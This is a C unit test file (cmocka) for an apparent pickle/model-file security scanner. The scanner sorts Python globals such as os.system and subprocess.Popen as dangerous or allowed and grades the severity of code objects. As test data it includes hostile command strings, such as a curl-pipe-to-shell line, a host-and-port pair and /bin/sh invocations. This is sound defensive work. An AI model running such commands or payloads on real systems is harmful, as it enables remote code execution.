#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "analyzer/policy.h"

static enum policy_class
class_of(const char *name)
{
	const struct policy_row *row = policy_judge(name, strlen(name));

	return row != NULL ? row->cls : POLICY_UNKNOWN;
}

static const char *
evidence(const char *args)
{
	return policy_evidence(args, strlen(args));
}

static void
the_exact_row_beats_the_prefix(void **state)
{
	(void)state;
	assert_int_equal(class_of("uuid.UUID"), POLICY_ALLOW);
	assert_int_equal(class_of("uuid._popen"), POLICY_DANGEROUS);
	assert_int_equal(class_of("torch.load"), POLICY_DANGEROUS);
	assert_int_equal(class_of("torch.device"), POLICY_ALLOW);
	assert_int_equal(class_of("pathlib.PosixPath"), POLICY_ALLOW);
	assert_int_equal(class_of("pathlib.Path.write_text"),
	    POLICY_DANGEROUS);
}

static void
a_prefix_covers_names_and_submodules_only(void **state)
{
	(void)state;
	assert_int_equal(class_of("os.system"), POLICY_DANGEROUS);
	assert_int_equal(class_of("os.path.join"), POLICY_DANGEROUS);
	assert_int_equal(class_of("os"), POLICY_DANGEROUS);
	assert_int_equal(class_of("ossify.system"), POLICY_UNKNOWN);
	assert_int_equal(class_of("subprocess.Popen"), POLICY_DANGEROUS);
}

static void
class_rows_cover_capitalised_names_only(void **state)
{
	(void)state;
	assert_int_equal(class_of("sklearn.svm._classes.SVC"), POLICY_ALLOW);
	assert_int_equal(class_of("sklearn.utils.run"), POLICY_UNKNOWN);
	assert_int_equal(class_of("torch.nn.modules.linear.Linear"),
	    POLICY_ALLOW);
	assert_int_equal(class_of("torch.nn.evil"), POLICY_UNKNOWN);
}

static void
what_no_row_names_is_unknown(void **state)
{
	(void)state;
	assert_int_equal(class_of("mycompany.models.Net"), POLICY_UNKNOWN);
	assert_int_equal(class_of(""), POLICY_UNKNOWN);
	assert_int_equal(class_of("."), POLICY_UNKNOWN);
}

static void
shapes_say_what_honest_writers_give(void **state)
{
	static const struct {
		const char *shape, *sig;
		bool ok;
	} cases[] = {
	    {NULL, "ssss", true}, {"", "", true}, {"", "s", false},
	    {"|l{lt}", "", true}, {"|l{lt}", "l", true},
	    {"|l{lt}", "l{t}", true}, {"|l{lt}", "l{s}", false},
	    {"|l{lt}", "s", false}, {"|l", "l{s}", true},
	    {"sbb|sii|g", "sbb", true}, {"sbb|sii|g", "sii", true},
	    {"sbb|sii|g", "sbi", false}, {"sbb|sii|g", "g", true},
	    {"s.?", "s", true}, {"s.?", "ss", true}, {"s.?", "sss", false},
	    {".ittbo.?", "pit{i}t{i}bo", true},
	    {".ittbo.?", "pit{i}t{i}bod", true},
	    {".ittbo.?", "pit{i}t{i}b", false},
	    {"i*", "", false}, {"i*", "i", true}, {"i*", "isss+", true},
	    {"/d", "/d{s}", true}, {".", "/", false}, {"s", "S", false},
	    {"gty", "gt{i}y", true}, {"gty", "gty+", false},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (policy_shape_ok(cases[i].shape, cases[i].sig) !=
		    cases[i].ok)
			fail_msg("'%s' and '%s'", cases[i].shape,
			    cases[i].sig);
}

static void
own_rows_come_before_ours(void **state)
{
	static const struct policy_row own[] = {
	    {"os.getcwd", POLICY_ALLOW, SEVERITY_INFO, NULL, "ours"},
	    {"mine.*", POLICY_DANGEROUS, SEVERITY_LOW, NULL, "ours"},
	    {"uuid.UUID", POLICY_UNKNOWN, SEVERITY_INFO, NULL, "ours"}};

	(void)state;
	policy_use(own, 3);
	assert_int_equal(class_of("os.getcwd"), POLICY_ALLOW);
	assert_int_equal(class_of("os.system"), POLICY_DANGEROUS);
	assert_int_equal(class_of("mine.a.b"), POLICY_DANGEROUS);
	assert_int_equal(class_of("uuid.UUID"), POLICY_UNKNOWN);
	policy_use(NULL, 0);
	assert_int_equal(class_of("os.getcwd"), POLICY_DANGEROUS);
	assert_int_equal(class_of("uuid.UUID"), POLICY_ALLOW);
}

/* Every row is found by the name that it is for. */
static void
every_row_can_be_reached(void **state)
{
	char name[256];

	(void)state;
	for (size_t i = 0; i < policy_count(); i++) {
		const struct policy_row *row = policy_at(i), *found;
		size_t n = strlen(row->pattern);

		memcpy(name, row->pattern, n + 1);
		if (n > 2 && (name[n - 1] == '*' || name[n - 1] == '^'))
			name[n - 1] = 'Z';
		found = policy_judge(name, n);
		if (found != row && (found == NULL || found->cls < row->cls))
			fail_msg("%s", row->pattern);
	}
}

static void
evidence_is_found_in_literals(void **state)
{
	(void)state;
	assert_string_equal(evidence("'curl http://x | sh'"), "shell-text");
	assert_string_equal(evidence("'https://example.org/x'"), "url");
	assert_string_equal(evidence("'10.0.0.1', 4444"), "host-port");
	assert_string_equal(evidence("'/etc/cron.d/x'"), "path");
	assert_string_equal(evidence("'import antigravity'"), "code");
	assert_string_equal(evidence("'os', 'system'"), "denied-name");
	assert_string_equal(evidence("'os.system'"), "denied-name");
	assert_string_equal(evidence("os.system, ['x']"),
	    "dangerous-callable");
}

static void
innocent_arguments_are_no_evidence(void **state)
{
	(void)state;
	assert_null(evidence(""));
	assert_null(evidence("1, 2.5, None, True, -1e300"));
	assert_null(evidence("'float64', False, True"));
	assert_null(evidence("collections.OrderedDict, ()"));
	assert_null(evidence("'version 1.2.3'"));
}

static void
an_escaped_quote_does_not_end_a_literal(void **state)
{
	(void)state;
	/* Inside the literal os.system is text, not a global. */
	assert_string_equal(evidence("'a\\' os.system '"), "code");
	assert_null(evidence("'unfinished \\"));
}

static void
allowed_names_alone_pass(void **state)
{
	(void)state;
	assert_true(policy_names_allowed("builtins.list, 3", 16));
	assert_false(policy_names_allowed("mine.Class", 10));
	assert_false(policy_names_allowed("os.system", 9));
}

static void
no_pattern_stands_twice(void **state)
{
	(void)state;
	for (size_t i = 0; i < policy_count(); i++)
		for (size_t j = i + 1; j < policy_count(); j++)
			if (strcmp(policy_at(i)->pattern,
			    policy_at(j)->pattern) == 0)
				fail_msg("twice: %s", policy_at(i)->pattern);
	assert_null(policy_at(policy_count()));
}

/* Names and constants of a code object, and how grave they are together. */
static void
code_is_judged_by_names_and_constants(void **state)
{
	static const struct {
		const char *names, *constants;
		enum severity severity;
		const char *sink;
	} rows[] = {
	    {"'w', 'h'", "'area of a box'", SEVERITY_INFO, NULL},
	    {"", "", SEVERITY_INFO, NULL},
	    {"'os', 'path', 'join'", "'see https://example.org'",
	     SEVERITY_INFO, NULL},
	    {"'os', 'system'", "'x'", SEVERITY_MEDIUM, "system"},
	    {"'os', 'system'", "'curl http://x | sh'", SEVERITY_HIGH,
	     "system"},
	    {"'exec'", "'import os'", SEVERITY_HIGH, "exec"},
	    {"'subprocess'", "'see the import statement'", SEVERITY_MEDIUM,
	     "subprocess"},
	    {"'subprocess'", "'10.0.0.1'", SEVERITY_HIGH, "subprocess"},
	    {"'urllib.request', 'urlopen'", "'http://x/'", SEVERITY_HIGH,
	     "urlopen"},
	    {"'model', 'eval'", "'x'", SEVERITY_LOW, "eval"},
	    {"'eval'", "'os.system'", SEVERITY_MEDIUM, "eval"},
	    {"'run'", "'x'", SEVERITY_INFO, NULL},
	    {"'run'", "'/bin/sh -c x'", SEVERITY_MEDIUM, "run"},
	    {"'f'", "'/bin/sh -c x'", SEVERITY_LOW, NULL},
	    {"'systems', 'executor'", "'x'", SEVERITY_INFO, NULL},
	};
	struct policy_code c;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		policy_code(rows[i].names, strlen(rows[i].names),
		    rows[i].constants, strlen(rows[i].constants), &c);
		if (c.severity != rows[i].severity)
			fail_msg("%s: severity %d", rows[i].names,
			    (int)c.severity);
		if (rows[i].sink != NULL)
			assert_string_equal(c.sink, rows[i].sink);
		else
			assert_null(c.sink);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(the_exact_row_beats_the_prefix),
	    cmocka_unit_test(a_prefix_covers_names_and_submodules_only),
	    cmocka_unit_test(class_rows_cover_capitalised_names_only),
	    cmocka_unit_test(what_no_row_names_is_unknown),
	    cmocka_unit_test(shapes_say_what_honest_writers_give),
	    cmocka_unit_test(own_rows_come_before_ours),
	    cmocka_unit_test(every_row_can_be_reached),
	    cmocka_unit_test(evidence_is_found_in_literals),
	    cmocka_unit_test(innocent_arguments_are_no_evidence),
	    cmocka_unit_test(an_escaped_quote_does_not_end_a_literal),
	    cmocka_unit_test(allowed_names_alone_pass),
	    cmocka_unit_test(no_pattern_stands_twice),
	    cmocka_unit_test(code_is_judged_by_names_and_constants),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
